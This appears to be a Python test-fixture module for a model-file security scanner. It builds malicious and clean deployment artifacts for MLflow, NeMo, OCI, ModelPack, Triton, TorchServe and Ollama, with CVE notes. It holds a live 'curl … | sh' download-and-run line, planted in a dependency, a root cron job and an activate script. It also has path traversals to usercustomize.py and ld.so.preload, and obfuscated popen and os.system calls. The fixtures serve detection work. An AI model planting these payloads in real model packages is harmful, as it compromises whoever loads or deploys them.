"""Deployment: MLflow, NeMo, OCI layers, ModelPack, Triton, TorchServe and Ollama."""
import gzip
import hashlib
import json

from pair import SHELL
from .craft import LLAMA, floats, gguf, safetensors, tarred, torch_zip, zipped
from .torches import state

WEIGHTS = safetensors({"w": ("F32", (8, 8), floats(64))})
STEAL = "curl -fsS http://203.0.113.52/i.sh | sh"


def mlflow(flavour, files):
    model = "artifact_path: model\nflavors:\n  python_function:\n" + "".join(f"    {line}\n" for line in flavour) + "mlflow_version: 2.17.2\nmodel_uuid: 1f0c2b3a4d5e6f708192a3b4c5d6e7f8\nrun_id: 0123456789abcdef0123456789abcdef\n"
    return {**files, "MLmodel": model, "data/model.safetensors": WEIGHTS}


def blob(data):
    return f"sha256:{hashlib.sha256(data).hexdigest()}"


def oci(layer, media="application/vnd.oci.image.layer.v1.tar+gzip", annotations=None, artifact=None, config=None):
    """An image layout of one layer."""
    config = json.dumps(config or {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["python", "/srv/serve.py"]}, "rootfs": {"type": "layers", "diff_ids": [blob(layer)]}}).encode()
    entry = {"mediaType": media, "digest": blob(layer), "size": len(layer), **({"annotations": annotations} if annotations else {})}
    kind = {"artifactType": artifact} if artifact else {}
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", **kind, "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": blob(config), "size": len(config)}, "layers": [entry]}).encode()
    index = json.dumps({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": blob(manifest), "size": len(manifest)}]})
    return {"oci-layout": '{"imageLayoutVersion": "1.0.0"}', "index.json": index, **{"blobs/sha256/" + blob(d)[7:]: d for d in (config, manifest, layer)}}


def nemo(lines):
    text = "name: tiny_asr\nx:\n  pkg: {}\n  fn: {}\nmodel:\n  sample_rate: 16000\n  encoder:\n    layers:\n    - _target_: ${{x.pkg}}.${{x.fn}}\n      _args_: {}\n    - d_model: 64\ntarget: nemo.collections.asr.models.EncDecCTCModel\n".format(*lines)
    return tarred({"./model_config.yaml": text, "./model_weights.ckpt": torch_zip(state(), {"0": floats(16)})})


HANDLER = """\
import json
import os


class Scorer:
    def initialize(self, context):
        folder = context.system_properties["model_dir"]
        with open(os.path.join(folder, "labels.json")) as f:
            self.labels = json.load(f)
        {line}

    def handle(self, data, context):
        return [self.labels[0] for _ in data]
"""


def add(s):
    yaml = lambda dep: "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools\ndependencies:\n- -r requirements.txt\n- \"" + dep + "\"\n"  # noqa: E731
    env = ["env:", "  virtualenv: python_env.yaml", "loader_module: mlflow.sklearn", "model_path: data/model.safetensors", "python_version: 3.11.7"]
    s.add("deployments", "mlflow_environment_with_a_command", mlflow(env, {"python_env.yaml": yaml(f"numpy==1.26.4; {STEAL} #"), "requirements.txt": "mlflow==2.17.2\nscikit-learn==1.5.2\n"}), mlflow(env, {"python_env.yaml": yaml("numpy==1.26.4; python_version >= '3.9'"), "requirements.txt": "mlflow==2.17.2\nscikit-learn==1.5.2\n"}), None,
          why="CVE-2025-15379: the dependency is put into a shell line when the model's container starts; it downloads and runs a script. MLflow not here, not run")
    flavour = ["loader_module: scorer", "code: code", "data: data", "env: {conda: conda.yaml}"]
    code = lambda line: {"code/scorer.py": f"import os\n\n\ndef _load_pyfunc(path):\n    names = sorted(os.listdir(path))\n    {line}\n    return names\n", "conda.yaml": "dependencies:\n- python=3.11\n"}  # noqa: E731
    s.add("deployments", "mlflow_loader_module", mlflow(flavour, code("os.spawnlp(os.P_WAIT, 'touch', 'touch', 'marker')")), mlflow(flavour, code("names = [n for n in names if not n.startswith('.')]")), "10/pyfunc",
          why="MLmodel names a module of its code folder as loader; mlflow.pyfunc.load_model calls it and it starts a program")
    s.add("deployments", "nemo_target_put_together", nemo(["os", "system", f"['{SHELL}']"]), nemo(["collections", "Counter", "['aab']"]), "10/nemo", "tiny_asr.nemo",
          why="CVE-2025-23304: the _target_ is interpolated from two other keys to os.system and instantiated with the model")
    cron = "* * * * * root " + STEAL + "\n"
    layer = lambda entries: gzip.compress(tarred(entries, fmt=1), mtime=0)  # noqa: E731
    s.add("deployments", "layer_writes_through_a_link", oci(layer([("models", ("sym", "/etc/cron.d")), ("models/refresh", cron)])), oci(layer([("models", ("dir",)), ("models/current", ("sym", "v1")), ("models/v1/labels.txt", "cat\ndog\n")])), None,
          why="a link of the layer points to the host's cron folder and the next member is written through it, when unpacked by a tool that follows links: a root job that runs a download. Not run")
    pack = lambda path: oci(WEIGHTS, "application/vnd.cncf.model.weight.v1.raw", {"org.cncf.model.filepath": path}, "application/vnd.cncf.model.manifest.v1+json", {"descriptor": {"name": "tiny", "family": "tiny"}, "modelfs": {"type": "layers", "diffIds": [blob(WEIGHTS)]}, "config": {"format": "safetensors"}})  # noqa: E731
    s.add("deployments", "modelpack_path_outside", pack("../../../../../../root/.local/lib/python3.11/site-packages/usercustomize.py"), pack("weights/model.safetensors"), None,
          why="the layer's file path leaves the target folder and lands on the user's import path: file write when the model is pulled. By the ModelPack specification, not run")
    triton = lambda activate: {"tiny/config.pbtxt": 'name: "tiny"\nbackend: "python"\nmax_batch_size: 8\ninput [{ name: "x" data_type: TYPE_FP32 dims: [ 8 ] }]\noutput [{ name: "y" data_type: TYPE_FP32 dims: [ 2 ] }]\nparameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz" } }\n', "tiny/1/model.safetensors": WEIGHTS, "tiny/env.tar.gz": tarred({"bin/activate": activate, "lib/python3.11/site-packages/README.txt": "packed by conda-pack\n"}, "w:gz")}  # noqa: E731
    active = "_conda_pack_activate() {\n  local full_path_script_dir=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\n  export CONDA_PREFIX=\"$(dirname \"$full_path_script_dir\")\"\n  export PATH=\"$full_path_script_dir:$PATH\"\n%s}\n_conda_pack_activate\n"
    s.add("deployments", "triton_environment_activates", triton(active % f"  ({STEAL}) >/dev/null 2>&1 &\n"), triton(active % "  export PS1=\"(tiny) $PS1\"\n"), None,
          why="Triton's Python backend sources bin/activate of the packed environment before it starts the model; it pipes a download into a shell. Not run")
    mar = lambda line: zipped({"MAR-INF/MANIFEST.json": json.dumps({"createdOn": "05/06/2024 07:08:10", "runtime": "python", "model": {"modelName": "tiny", "serializedFile": "model.safetensors", "handler": "scorer.py", "modelVersion": "1.0"}, "archiverVersion": "0.11.0"}), "scorer.py": HANDLER.format(line=line), "labels.json": '["cat", "dog"]', "model.safetensors": WEIGHTS})  # noqa: E731
    s.add("deployments", "archive_handler_runs_a_command", mar("getattr(os, 'po' + 'pen')('touch marker').read()"), mar("self.count = getattr(self.labels, '__len__')()"), "10/mar", "tiny.mar",
          why="the handler that TorchServe starts looks popen up by a spliced name and runs a command")
    data = gguf(LLAMA, [("token_embd.weight", (64, 5), 0, 0)], floats(320))
    config = b'{"model_format":"gguf","model_family":"llama","model_type":"1B","file_type":"F32","architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}'
    ollama = lambda digest: {"manifests/registry.ollama.ai/library/tiny/latest": json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json", "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": blob(config), "size": len(config)}, "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": blob(data), "size": len(data)}, {"mediaType": "application/vnd.ollama.image.license", "digest": digest, "size": 11}]}), "blobs/" + blob(config).replace(":", "-"): config, "blobs/" + blob(data).replace(":", "-"): data, "blobs/" + blob(b"MIT License").replace(":", "-"): b"MIT License"}  # noqa: E731
    s.add("deployments", "ollama_digest_is_a_path", ollama("../../../../../../../../etc/ld.so.preload"), ollama(blob(b"MIT License")), None,
          why="CVE-2024-37032: the digest of a layer is a path, so pulling the model writes (and pushing reads) outside the store: code execution through ld.so.preload. Not run")
